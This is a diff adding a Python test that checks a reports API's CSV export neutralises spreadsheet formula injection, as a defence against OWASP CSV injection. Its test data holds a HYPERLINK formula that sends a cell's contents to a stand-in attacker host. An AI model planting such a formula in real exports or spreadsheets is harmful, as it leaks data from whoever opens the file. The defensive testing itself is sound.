@@ -112,3 +112,20 @@ def test_reports_by_programme_ward_and_month_and_csv(client: TestClient) -> None
     parsed = list(csv.DictReader(io.StringIO(r.text)))
     assert parsed[0]["ward"] == "Central Milton Keynes" and parsed[0]["participants"] == "1"
     assert client.get("/api/v1/reports/figures", headers=citizen()).status_code == 403
+
+
+def test_reports_csv_neutralises_formulas(client: TestClient) -> None:
+    """OWASP CSV injection: a programme title (free text; wards are a fixed list) that
+    starts a spreadsheet formula is written with a single quote in front
+    (servicekit.csvsafe), every cell quoted."""
+    title = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    course = make_programme(client, title=title)
+    session = make_session(client, programme=course)
+    client.post(f"/api/v1/sessions/{session['id']}/enrolments", json={"consent": True},
+                headers=citizen(1))
+    r = client.get("/api/v1/reports/figures.csv")
+    assert r.status_code == 200, r.text
+    [row] = list(csv.DictReader(io.StringIO(r.text)))
+    assert row["programme_title"] == "'" + title
+    assert row["participants"] == "1"
+    assert all(line.startswith('"') for line in r.text.splitlines())
